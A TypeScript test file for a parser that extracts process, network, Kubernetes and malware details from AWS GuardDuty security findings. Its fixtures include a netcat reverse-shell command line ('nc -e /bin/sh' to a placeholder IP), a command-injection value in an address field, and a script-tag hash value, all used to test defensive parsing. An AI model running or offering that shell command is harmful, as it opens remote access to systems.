import { apiCallOf, grantOf, permissionCheckedOf } from '../../src/finding/stated/call.ts';
import { instanceOf } from '../../src/finding/stated/instance.ts';
import { peersOf, threatNamesOf } from '../../src/finding/stated/peers.ts';
import { processOf, runtimeContextOf } from '../../src/finding/stated/process.ts';
import { indicatorsOf, sequenceDescriptionOf, signalsOf } from '../../src/finding/stated/sequence.ts';
import { threatsOf, triggerFindingIdOf } from '../../src/finding/stated/threats.ts';
import { userOf } from '../../src/finding/stated/user.ts';
import { containersOf, workloadOf, workloadRole } from '../../src/finding/stated/workload.ts';
import type { JsonObject } from '../../src/json.ts';
import {
  auditDetail,
  containerId,
  image,
  instanceId,
  malwareDetail,
  merged,
  podWorkload,
  runtimeDetail,
  sequenceDetail,
  web,
} from '../builders/finding.ts';

const stating = (detail: JsonObject) => ({ detail });
const runtime = (service: JsonObject) => stating(runtimeDetail(undefined, { service }));
const action = (what: JsonObject) =>
  stating(auditDetail(undefined, { service: { action: { kubernetesApiCallAction: null, ...what } } }));
const bare = stating({});

describe('what a finding states', () => {
  it('of the process: who ran what, and whose child it is', () => {
    const lineage = [{ name: 'node', executablePath: '/usr/bin/node' }, { name: 'init' }, {}];
    expect(processOf(runtime({ runtimeDetails: { process: { lineage, pwd: '/tmp', namespacePid: 42 } } }))).toEqual({
      name: 'sh',
      path: '/bin/busybox',
      sha256: 'a'.repeat(64),
      pid: 31337,
      namespacePid: 42,
      user: 'root',
      euid: 0,
      workingDirectory: '/tmp',
      parents: ['/usr/bin/node', 'init'],
    });
  });

  it('of the process: no hash that is none', () => {
    expect(
      processOf(runtime({ runtimeDetails: { process: { executableSha256: 'sha256:<script>' } } }))?.sha256,
    ).toBeNull();
  });

  it('of what the process did: single words, in the order a responder reads them, and nothing that is a structure', () => {
    const context = {
      mountTarget: '/mnt',
      commandLineExample: 'nc -e /bin/sh 198.51.100.7 4444',
      flags: ['MS_BIND'],
      targetProcess: { name: 'x' },
      toolName: '',
      fileOperation: 'write',
    };
    expect(runtimeContextOf(runtime({ runtimeDetails: { context } }))).toEqual([
      { key: 'commandLineExample', value: 'nc -e /bin/sh 198.51.100.7 4444' },
      { key: 'fileOperation', value: 'write' },
      { key: 'mountTarget', value: '/mnt' },
    ]);
  });

  it('of the other end of a connection', () => {
    const networkConnectionAction = {
      connectionDirection: 'OUTBOUND',
      protocol: 'TCP',
      blocked: false,
      remotePortDetails: { port: 4444 },
      remoteIpDetails: {
        ipAddressV4: '198.51.100.7',
        country: { countryName: 'Exampleland' },
        organization: { asnOrg: 'EXAMPLE' },
      },
    };
    expect(peersOf(action({ networkConnectionAction }))).toEqual([
      {
        ip: '198.51.100.7',
        domain: null,
        port: 4444,
        protocol: 'TCP',
        direction: 'outbound',
        blocked: false,
        country: 'Exampleland',
        organization: 'EXAMPLE',
      },
    ]);
  });

  it('of the name that was looked up', () => {
    expect(peersOf(action({ dnsRequestAction: { domain: 'pool.example', protocol: 'UDP', blocked: true } }))).toEqual([
      expect.objectContaining({ ip: null, domain: 'pool.example', blocked: true, direction: 'outbound' }),
    ]);
  });

  it('of who called the API, from where', () => {
    expect(peersOf(stating(auditDetail()))).toEqual([
      expect.objectContaining({ ip: '198.51.100.7', direction: 'inbound', country: 'Exampleland' }),
    ]);
  });

  it.each(['', 'not an address', '198.51.100.7; id'])('of no peer at the address %j', (ipAddressV4) => {
    expect(peersOf(action({ networkConnectionAction: { remoteIpDetails: { ipAddressV4 } } }))).toEqual([]);
  });

  it('of the ends of an attack sequence', () => {
    const endpoints = [
      { id: 'e', ip: '2001:db8::1', port: 443, connection: { direction: 'INBOUND' } },
      { id: 'f', domain: 'c2.example' },
      { id: 'g' },
    ];
    expect(peersOf(stating(sequenceDetail(undefined, { endpoints })))).toEqual([
      expect.objectContaining({ ip: '2001:db8::1', port: 443, direction: 'inbound' }),
      expect.objectContaining({ ip: null, domain: 'c2.example', direction: null }),
    ]);
  });

  it('of the threat lists that matched', () => {
    expect(
      threatNamesOf(
        runtime({
          evidence: { threatIntelligenceDetails: [{ threatListName: 'l', threatNames: ['Kinsing', 'TeamTNT'] }, null] },
        }),
      ),
    ).toEqual(['Kinsing', 'TeamTNT']);
  });

  it('of the call to the API', () => {
    expect(apiCallOf(stating(auditDetail()))).toEqual({
      verb: 'list',
      resource: 'secrets',
      subresource: null,
      namespace: null,
      name: null,
      uri: '/api/v1/secrets',
      userAgent: 'kubectl/v1.36',
      statusCode: 200,
      sourceIps: ['198.51.100.7'],
    });
  });

  it('of a role and of a binding that were made', () => {
    const binding = {
      kind: 'ClusterRoleBinding',
      name: 'b',
      uid: 'u',
      roleRefName: 'cluster-admin',
      roleRefKind: 'ClusterRole',
    };
    expect(grantOf(action({ kubernetesRoleBindingDetails: binding }))).toEqual({
      of: 'binding',
      kind: 'ClusterRoleBinding',
      name: 'b',
      uid: 'u',
      role: 'cluster-admin',
      roleKind: 'ClusterRole',
    });
    expect(grantOf(action({ kubernetesRoleDetails: { kind: 'Role', name: 'r' } }))).toEqual({
      of: 'role',
      kind: 'Role',
      name: 'r',
      uid: null,
    });
  });

  it('of the permission that was asked about', () => {
    expect(
      permissionCheckedOf(
        action({ kubernetesPermissionCheckedDetails: { verb: 'create', resource: 'pods/exec', allowed: false } }),
      ),
    ).toEqual({ verb: 'create', resource: 'pods/exec', namespace: null, allowed: false });
  });

  it('of the user, in the words of the cluster and of IAM', () => {
    expect(
      userOf(
        stating(
          auditDetail(undefined, {
            resource: { kubernetesDetails: { kubernetesUserDetails: { impersonatedUser: { username: 'root' } } } },
          }),
        ),
      ),
    ).toEqual({
      username: 'alice',
      uid: 'u',
      groups: ['system:authenticated'],
      sessionNames: ['alice'],
      impersonates: 'root',
      accessKeyId: 'ASIAEXAMPLEEXAMPLE00',
      principalId: 'AROAEXAMPLE:alice',
      iamName: 'DevOps',
      iamType: 'Role',
    });
  });

  it('of the workload: what it shares with its node, and null where it does not say', () => {
    const workload = merged(podWorkload, {
      hostNetwork: true,
      hostPID: null,
      containers: [
        {
          name: 'web',
          id: containerId,
          image,
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'host', mountPath: '/host' }],
        },
      ],
      volumes: [
        { name: 'host', hostPath: { path: '/' } },
        { name: 'tmp', hostPath: null },
      ],
    });
    expect(
      workloadOf(
        stating(runtimeDetail(undefined, { resource: { kubernetesDetails: { kubernetesWorkloadDetails: workload } } })),
      ),
    ).toEqual({
      ...web,
      type: 'pods',
      serviceAccountName: 'web',
      hostNetwork: true,
      hostPid: null,
      hostIpc: null,
      containers: [
        {
          name: 'web',
          id: containerId,
          image,
          privileged: true,
          allowPrivilegeEscalation: null,
          mounts: [{ volume: 'host', path: '/host' }],
        },
      ],
      volumes: [
        { name: 'host', hostPath: '/' },
        { name: 'tmp', hostPath: null },
      ],
    });
  });

  it('of a container that belongs to no workload', () => {
    expect(containersOf(stating(malwareDetail('Execution:Container/MaliciousFile')))).toEqual([
      expect.objectContaining({ name: 'web', image }),
    ]);
  });

  it('of the instance below', () => {
    expect(instanceOf(stating(runtimeDetail()))).toEqual({
      instanceId,
      privateDnsName: 'ip-10-0-1-23.eu-central-1.compute.internal',
      privateIps: ['10.0.1.23'],
    });
    expect(
      instanceOf(stating(runtimeDetail(undefined, { resource: { instanceDetails: { instanceId: '../x' } } })))
        ?.instanceId,
    ).toBeNull();
  });

  it('of the malware and of the finding that made GuardDuty look for it', () => {
    expect(triggerFindingIdOf(stating(malwareDetail()))).toBe('f0000000000000000000000000000009');
    expect(threatsOf(stating(malwareDetail()))).toEqual([
      { name: 'EICAR-Test-File', severity: 'HIGH', items: 1, files: [{ path: '/tmp/eicar', sha256: 'b'.repeat(64) }] },
    ]);
    expect(
      triggerFindingIdOf(
        stating(malwareDetail(undefined, { service: { ebsVolumeScanDetails: { triggerFindingId: '../x' } } })),
      ),
    ).toBeNull();
  });

  it('of the signals of an attack sequence, and which of them are findings', () => {
    const signals = [
      {
        uid: 'arn:aws:guardduty:eu-central-1:111122223333:detector/d/finding/f1',
        type: 'FINDING',
        name: 'Execution:Runtime/ReverseShell',
        severity: 8,
        count: 1,
        firstSeenAt: 1795168800,
        lastSeenAt: '2026-11-20T10:00:01Z',
      },
      { uid: 's/2', type: 'EKS_AUDIT_LOGS', name: 'exec', count: 2 },
    ];
    const finding = stating(
      sequenceDetail(undefined, { signals, sequenceIndicators: [{ key: 'ATTACK_TACTIC', values: ['Execution'] }] }),
    );
    expect(signalsOf(finding)).toEqual([
      {
        type: 'FINDING',
        name: 'Execution:Runtime/ReverseShell',
        severity: 8,
        count: 1,
        firstSeenAt: '2026-11-20T10:00:00.000Z',
        lastSeenAt: '2026-11-20T10:00:01.000Z',
        findingId: 'f1',
      },
      {
        type: 'EKS_AUDIT_LOGS',
        name: 'exec',
        severity: null,
        count: 2,
        firstSeenAt: null,
        lastSeenAt: null,
        findingId: null,
      },
    ]);
    expect(indicatorsOf(finding)).toEqual([{ key: 'ATTACK_TACTIC', values: ['Execution'] }]);
    expect(sequenceDescriptionOf(finding)).toBe('A sequence of actions');
  });

  it.each([
    ['Execution:Runtime/ReverseShell', 'suspect'],
    ['Execution:Kubernetes/MaliciousFile', 'suspect'],
    ['Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed', 'suspect'],
    ['Execution:Kubernetes/AnomalousBehavior.ExecInPod', 'victim'],
    ['Execution:Kubernetes/ExecInKubeSystemPod', 'victim'],
    ['Impact:Kubernetes/MaliciousIPCaller', 'context'],
    ['Impact:Runtime/OfTomorrow', 'context'],
  ])('%s has its workload as %s', (type, role) => {
    expect(workloadRole({ type })).toBe(role);
  });
});

it('is nothing where the finding says nothing', () => {
  const nothing = [
    processOf,
    apiCallOf,
    grantOf,
    permissionCheckedOf,
    userOf,
    workloadOf,
    instanceOf,
    triggerFindingIdOf,
    sequenceDescriptionOf,
  ];
  expect(nothing.map((of) => of(bare))).toEqual(nothing.map(() => null));
  const none = [runtimeContextOf, peersOf, threatNamesOf, containersOf, threatsOf, signalsOf, indicatorsOf];
  expect(none.map((of) => of(bare))).toEqual(none.map(() => []));
});

it('is bounded, whatever the attacker wrote', () => {
  const process = {
    name: 'x'.repeat(1_000_000),
    executablePath: '😀'.repeat(10_000),
    lineage: Array.from({ length: 1000 }, () => ({ name: 'p' })),
  };
  const stated = processOf(runtime({ runtimeDetails: { process } }));
  expect(stated?.name).toHaveLength(512);
  expect(stated?.path?.isWellFormed()).toBe(true);
  expect(stated?.parents).toHaveLength(50);
});
